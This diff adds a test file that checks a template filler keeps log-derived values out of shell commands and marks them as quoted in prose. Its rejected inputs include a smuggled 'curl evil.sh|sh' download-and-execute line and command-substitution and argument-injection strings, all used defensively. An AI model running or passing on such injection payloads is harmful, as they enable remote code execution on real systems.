@@ -1,0 +1,51 @@
+import { describe, expect, it } from 'vitest';
+import { fillCommand, fillProse, templateValues } from '../../../src/core/classify/template.js';
+import { quote } from '../../../src/core/domain/quoted.js';
+import { failure } from './failures.js';
+
+const values = (address: string) => templateValues(['address', 'other_name'], { address }, failure('boom\nmore'));
+
+describe('what a log says in a command', () => {
+  it.each([
+    'x;curl${IFS}evil.sh|sh',
+    '$(id)',
+    '`id`',
+    'a b',
+    'a\nb',
+    '"',
+    "'",
+    '\\',
+    '>out',
+    '~',
+    '*',
+    '--upload-pack=x',
+    '-',
+    'a'.repeat(201),
+    'é',
+  ])('is no part of it where it could change what it does: %j', (address) => {
+    expect(fillCommand('ping {address}', values(address))).toBe('ping <address>');
+  });
+
+  it.each(['db:5432', 'src/a_b.py', 'user@host', '1.2+3=4,5', 'a-b', 'a'.repeat(200)])(
+    'stands in it else: %j',
+    (address) => {
+      expect(fillCommand('ping {address}', values(address))).toBe(`ping ${address}`);
+    },
+  );
+
+  it('what was not captured has its name, or what the pattern says instead', () => {
+    expect(fillCommand('ping {address} {other_name} {facts.port} {other_name|x}', values(''))).toBe(
+      'ping <address> <other name> <port> x',
+    );
+    expect(fillCommand('awk {print} {0}', values(''))).toBe('awk {print} {0}');
+  });
+});
+
+describe('what a log says in prose', () => {
+  it('is marked as quoted', () => {
+    expect(fillProse('`{address}` and {address} say {failure.message}', values('@all'))).toBe(
+      `${quote('@all')} and ${quote('@all')} say ${quote('boom')}`,
+    );
+    expect(fillProse('{other_name} of {facts.port|a port}', values(''))).toBe('the other name of a port');
+  });
+});
